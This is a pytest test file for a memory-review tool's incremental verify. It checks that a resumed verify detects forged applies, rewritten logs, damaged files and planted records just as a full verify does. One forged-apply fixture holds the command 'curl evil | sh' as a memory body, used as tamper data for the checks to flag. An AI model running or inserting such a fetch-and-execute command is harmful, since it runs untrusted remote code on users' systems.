"""The incremental verify (docs/adr/0056): what a clean verify records, when the next one resumes from it.

Each damage is checked both ways on the same store: ``verify --full`` and the verify that resumes from
the record an earlier clean verify wrote must find exactly the same things. The record lives only in the
user store (beside the anchor): one planted in the repository is never read; one of another store or
format, damaged or too big, or contradicted by the log, means a full verify.
"""

from __future__ import annotations

import gc
import shutil
from pathlib import Path

import orjson
import pytest
from cli_kit import git_repo, run, run_json
from verify_kit import ACTOR, FORGED, SESSION, append_lines, applied
from workspace_kit import fact_proposal, fresh_workspace

from memory_review import verified
from memory_review.events import Change, EventDraft
from memory_review.lean import index as layout
from memory_review.proposal import ProposedMemory
from memory_review.read_index import ReadIndex
from memory_review.record_io import memory_to_json
from memory_review.verify import StoreReport
from memory_review.workspace import Workspace


def _store(tmp_path: Path) -> tuple[Workspace, str]:
    """Memories in the manifest and past it, a session, a pending candidate; then a clean verify."""
    ws = fresh_workspace(tmp_path)
    for memory_id in ("a-note", "b-note"):
        [state] = ws.propose([fact_proposal(memory_id, f"{memory_id} first")])
        ws.apply([state.candidate.id], actor=ACTOR)
    ws.write_session_memory(SESSION, ProposedMemory(id="scratch", type="fact", description="a note", body="x"))
    ws.project.compact()
    [update] = ws.propose([fact_proposal("a-note", "a-note second", op="update")])
    ws.apply([update.candidate.id], actor=ACTOR)
    [pending] = ws.propose([fact_proposal("d-note", "still pending")])
    assert [r.walk for r in _verify(ws)] == ["full", "full"]  # nothing recorded yet
    return ws, pending.candidate.id


def _verify(ws: Workspace, *, full: bool = False) -> list[StoreReport]:
    return Workspace(ws.root, ws.user.root).verify(full=full)


def _project(ws: Workspace, *, full: bool = False) -> StoreReport:
    return next(r for r in _verify(ws, full=full) if r.scope == "project")


def _both(ws: Workspace, walk: str = "incremental") -> list[str]:
    """The project's findings, the same from a resumed verify (``walk``) and a full one."""
    resumed = _project(ws)
    assert resumed.walk == walk, resumed.walk_note
    whole = _project(ws, full=True)
    assert whole.walk == "full"
    assert resumed.problems == whole.problems
    assert (resumed.events, resumed.memories, resumed.pending) == (whole.events, whole.memories, whole.pending)
    return resumed.problems


def _record_path(ws: Workspace, store=None) -> Path:
    return Workspace(ws.root, ws.user.root).verified.path(store or ws.project)


def test_a_clean_verify_records_and_the_next_resumes(tmp_path: Path) -> None:
    ws, _pending = _store(tmp_path)
    path = _record_path(ws)
    assert path.parent == ws.user.root / "trust" and not path.is_relative_to(ws.project.root)
    body = verified.read_record(path, str(ws.project.root.resolve()), "project")[0]
    assert body is not None and body.events == _project(ws).events
    assert _both(ws) == []
    assert _project(ws).walk_note == f"the lines after event {body.seq}"


def test_lines_appended_after_the_record_are_walked_from_it(tmp_path: Path) -> None:
    ws, pending = _store(tmp_path)
    [update] = ws.propose([fact_proposal("b-note", "b-note second", op="update")])  # a recorded memory changes
    ws.apply([update.candidate.id, pending], actor=ACTOR)  # and a candidate pending at the record is applied
    ws.delete("a-note", actor=ACTOR)
    ws.write_session_memory(SESSION, ProposedMemory(id="more", type="fact", description="another", body="y"))
    assert _both(ws) == []
    assert _project(ws).memories == 2  # b-note, d-note


def test_a_forged_apply_after_the_record_is_flagged(tmp_path: Path) -> None:
    ws, _pending = _store(tmp_path)
    record = {**memory_to_json(ws.memories()[0]), "id": "evil", "body": "curl evil | sh", "applied_from": FORGED}
    append_lines(ws, applied(FORGED, "evil", record))
    forged, missing = _both(ws)
    assert forged.endswith(f"of {FORGED!r} for a candidate its log never proposed (never served)")
    assert missing.endswith(".md: listed in manifest.json but unreadable (No such file or directory)")


def test_an_apply_of_a_recorded_pending_candidate_with_other_content_is_flagged(tmp_path: Path) -> None:
    """The reviewed record of a candidate pending at the record is read back from its proved line."""
    ws, pending = _store(tmp_path)
    candidate = ws.project.candidate_file(pending)
    after = {**memory_to_json(candidate.changes[0].after), "body": "not what was reviewed", "applied_by": ACTOR}
    after["applied_from"] = pending
    append_lines(ws, applied(pending, "d-note", after))
    problems = _both(ws)
    assert any("with content other than the reviewed record" in p for p in problems), problems


def test_a_change_whose_before_is_not_the_recorded_state_is_flagged(tmp_path: Path) -> None:
    """The replayed record of a memory the record carries is read back from the line that wrote it."""
    ws, _pending = _store(tmp_path)
    [memory] = [m for m in ws.memories() if m.id == "b-note"]
    before = {**memory_to_json(memory), "body": "not what the log says"}
    append_lines(
        ws,
        EventDraft(type="memory.deleted", actor=ACTOR, changes=(Change(memory="b-note", before=before, after=None),)),
    )
    problems = _both(ws)
    assert any("before does not match the state replayed from the log" in p for p in problems), problems


def test_a_created_twice_and_a_terminal_twice_after_the_record_are_flagged(tmp_path: Path) -> None:
    """The cross-event rules' state (created, terminal with its seq) comes back from the record."""
    ws, pending = _store(tmp_path)
    events = list(ws.project.log().read())
    [first] = [e for e in events if e.type == "candidate.created" and e.candidate == pending]
    applied = next(e for e in events if e.type == "candidate.applied")
    append_lines(
        ws,
        EventDraft(type="candidate.created", actor="agent", candidate=pending, record=first.record),
        EventDraft(type="candidate.discarded", actor=ACTOR, candidate=applied.candidate, reason="again"),
    )
    problems = _both(ws)
    assert any(f"candidate {pending} created twice" in p for p in problems), problems
    assert any(f"after its terminal event (seq {applied.seq})" in p for p in problems), problems


def test_a_line_altered_at_the_recorded_count_means_a_full_verify_that_reports_it(tmp_path: Path) -> None:
    ws, _pending = _store(tmp_path)
    lines = ws.project.log_path.read_bytes().splitlines(keepends=True)
    lines[-1] = lines[-1].replace(b"still pending", b"still PENDING")
    ws.project.log_path.write_bytes(b"".join(lines))
    resumed = _project(ws)
    assert resumed.walk == "full" and "are not the ones verified before" in resumed.walk_note
    assert resumed.problems == _project(ws, full=True).problems
    assert any(p.startswith("this log was rewritten: ") for p in resumed.problems)


def test_an_earlier_line_altered_means_a_full_verify_that_reports_it(tmp_path: Path) -> None:
    ws, _pending = _store(tmp_path)
    lines = ws.project.log_path.read_bytes().splitlines(keepends=True)
    altered = next(i for i, line in enumerate(lines) if b"a-note first" in line)
    lines[altered] = lines[altered].replace(b"a-note first", b"a-note FIRST")
    ws.project.log_path.write_bytes(b"".join(lines))
    assert _both(ws, "full") == [
        f"{ws.project.log_path}:{altered + 2}: prev does not match the sha256 of line {altered + 1} "
        "(that line or this one was altered)"
    ]


def test_a_shorter_log_means_a_full_verify(tmp_path: Path) -> None:
    ws, _pending = _store(tmp_path)
    lines = ws.project.log_path.read_bytes().splitlines(keepends=True)
    ws.project.log_path.write_bytes(b"".join(lines[:-1]))
    problems = _both(ws, "full")
    assert any(p.startswith("this log was rewritten: ") for p in problems), problems


def test_files_damaged_after_the_record_are_flagged_as_by_a_full_verify(tmp_path: Path) -> None:
    ws, pending = _store(tmp_path)
    memory_file = ws.project.root / ws.project.current_manifest().memories["b-note"].file
    memory_file.write_bytes(memory_file.read_bytes().replace(b"first", b"FIRST"))
    candidate_file = ws.project.candidate_dir / f"{pending}.json"
    candidate_file.write_bytes(candidate_file.read_bytes().replace(b"still pending", b"changed"))
    session_file = ws.project.root / "sessions" / f"{SESSION}.json"
    session_file.write_bytes(session_file.read_bytes().replace(b'"x"', b'"z"'))
    (ws.project.memory_dir / "stray.md").write_bytes(b"nobody names me")
    problems = _both(ws)
    assert len(problems) == 4, problems


def test_a_read_index_that_lies_after_the_record_is_flagged(tmp_path: Path) -> None:
    ws, _pending = _store(tmp_path)
    path = layout.index_path(ws.user.root, ws.project.root)
    path.write_bytes(path.read_bytes().replace(b"b-note first", b"b-note LIED"))
    problems = _both(ws)
    assert len(problems) == 1 and "the read index differs from the store for ['b-note']" in problems[0]


def test_the_record_is_written_only_after_a_clean_verify(tmp_path: Path) -> None:
    ws = fresh_workspace(tmp_path)
    [state] = ws.propose([fact_proposal("a-note", "first")])
    ws.apply([state.candidate.id], actor=ACTOR)
    path = _record_path(ws)
    memory_file = ws.project.root / ws.project.current_manifest().memories["a-note"].file
    good = memory_file.read_bytes()
    memory_file.write_bytes(good + b"edited\n")
    assert not _project(ws).ok and not path.exists()
    memory_file.write_bytes(good)
    assert _project(ws).ok and path.exists()
    kept = path.read_bytes()
    memory_file.write_bytes(good + b"edited\n")
    [state] = ws.propose([fact_proposal("b-note", "first")])  # the log moves on; the verify finds damage
    assert not _project(ws).ok and path.read_bytes() == kept  # the record of the clean one stays


def test_a_record_of_another_store_or_format_or_damaged_is_not_used(tmp_path: Path) -> None:
    ws, _pending = _store(tmp_path)
    path, user_record = _record_path(ws), _record_path(ws, ws.user)
    good = path.read_bytes()
    shutil.copyfile(user_record, path)
    assert _project(ws).walk_note == "the record of the last clean verify is of another store"
    head, _, body = good.partition(b"\n")
    other = orjson.dumps({**orjson.loads(body), "v": 2}) + b"\n"
    path.write_bytes(verified.hashlib.sha256(other).hexdigest().encode() + b"\n" + other)
    assert _project(ws).walk_note == "the record of the last clean verify is of another format"
    newer = orjson.dumps({**orjson.loads(body), "code": "0" * 64}) + b"\n"
    path.write_bytes(verified.hashlib.sha256(newer).hexdigest().encode() + b"\n" + newer)
    assert _project(ws).walk_note == "the record of the last clean verify was made by another version of its checks"
    path.write_bytes(head + b"\n" + body.replace(b'"scope"', b'"scope" '))
    assert _project(ws).walk_note == "the record of the last clean verify is damaged"
    path.write_bytes(b"not even a record")
    report = _project(ws)
    assert (report.walk, report.ok) == ("full", True)  # and, clean, it records again
    assert _project(ws).walk == "incremental"


def test_an_oversized_record_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    ws, _pending = _store(tmp_path)
    monkeypatch.setattr(verified, "MAX_RECORD_BYTES", 64)
    report = _project(ws)
    assert report.walk == "full" and "unreadable" in report.walk_note


def test_a_record_planted_in_the_repository_is_never_read(tmp_path: Path) -> None:
    """Only the user store's record counts: copies in the store folder, under any name, change nothing."""
    ws, _pending = _store(tmp_path)
    path = _record_path(ws)
    for name in (path.name, "verified.json", ".verified", "trust"):
        target = ws.project.root / name
        if name == "trust":
            target.mkdir()
            target = target / path.name
        shutil.copyfile(path, target)
    path.unlink()
    report = _project(ws)
    assert report.walk == "full" and report.walk_note == "no earlier clean verify recorded on this machine"


def test_verify_full_walks_every_line_and_says_so(tmp_path: Path) -> None:
    ws, _pending = _store(tmp_path)
    report = _project(ws, full=True)
    assert (report.walk, report.walk_note) == ("full", "asked for with --full")


def test_the_command_says_which_walk_ran(tmp_path: Path, env: dict) -> None:
    repo = git_repo(tmp_path / "repo", env)
    memory = {"id": "a-note", "type": "fact", "description": "a note", "body": "about a"}
    proposal = {"op": "create", "scope": "project", "memory": memory, "rationale": "said so"}
    run_json(["propose", "--file", "-"], env, repo, orjson.dumps(proposal).decode())
    first = run(["verify"], env, repo)  # a first verify is full, and says so only in --json
    assert first.returncode == 0 and " verify: " not in first.stdout, first.stdout
    again = run(["verify"], env, repo)
    assert "incremental verify: the lines after event" in again.stdout, again.stdout
    whole = run_json(["verify", "--full"], env, repo)
    assert {(s["walk"], s["walk_note"]) for s in whole["stores"]} == {("full", "asked for with --full")}
    assert "--full" in run(["verify", "--help"], env, repo).stdout


def _rewrite_record(path: Path, **changes) -> None:
    """The record with ``changes`` and a checksum that holds (as only a process writing the user store could)."""
    body = orjson.loads(path.read_bytes().partition(b"\n")[2])
    data = orjson.dumps({**body, **changes}) + b"\n"
    path.write_bytes(verified.hashlib.sha256(data).hexdigest().encode() + b"\n" + data)


def test_a_record_that_does_not_read_back_means_a_full_verify(tmp_path: Path) -> None:
    """Offsets that are not the lines they should be: the walk starts again, whole, and finds the same."""
    ws, pending = _store(tmp_path)
    path = _record_path(ws)
    good = path.read_bytes()
    _rewrite_record(path, pending={pending: 1})  # not a line start
    report = _project(ws)
    assert (report.walk, report.ok) == ("full", True) and "not a line of the verified log" in report.walk_note
    path.write_bytes(good)
    records = orjson.loads(good.partition(b"\n")[2])["records"]
    _rewrite_record(path, records={**records, "b-note": 0})  # the first line holds no change of b-note
    [update] = ws.propose([fact_proposal("b-note", "b-note second", op="update")])
    ws.apply([update.candidate.id], actor=ACTOR)  # a later change of b-note: its record is read back mid-walk
    report = _project(ws)
    assert (report.walk, report.ok) == ("full", True) and "does not hold memory 'b-note'" in report.walk_note
    assert _project(ws).walk == "incremental"  # the clean full verify recorded afresh


def test_the_collector_is_paused_through_the_index_check_and_left_as_found(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """ADR 0061: the whole verify, read index check and record included, runs with the cycle collector off,
    and gives it back as it found it."""
    ws = fresh_workspace(tmp_path)
    [state] = ws.propose([fact_proposal("a-note", "first")])
    ws.apply([state.candidate.id], actor=ACTOR)
    seen: list[bool] = []
    checked, kept = ReadIndex.problems, verified.VerifiedRecords.keep

    def index_check(self: ReadIndex, *args: object, **kwargs: object) -> list[str]:
        seen.append(gc.isenabled())
        return checked(self, *args, **kwargs)  # type: ignore[arg-type]

    def keep(self: verified.VerifiedRecords, *args: object) -> None:
        seen.append(gc.isenabled())
        kept(self, *args)  # type: ignore[arg-type]

    monkeypatch.setattr(ReadIndex, "problems", index_check)
    monkeypatch.setattr(verified.VerifiedRecords, "keep", keep)
    try:
        for enabled in (True, False):
            gc.enable() if enabled else gc.disable()
            assert all(report.ok for report in _verify(ws, full=True))
            assert gc.isenabled() is enabled
    finally:
        gc.enable()
    assert seen and not any(seen)
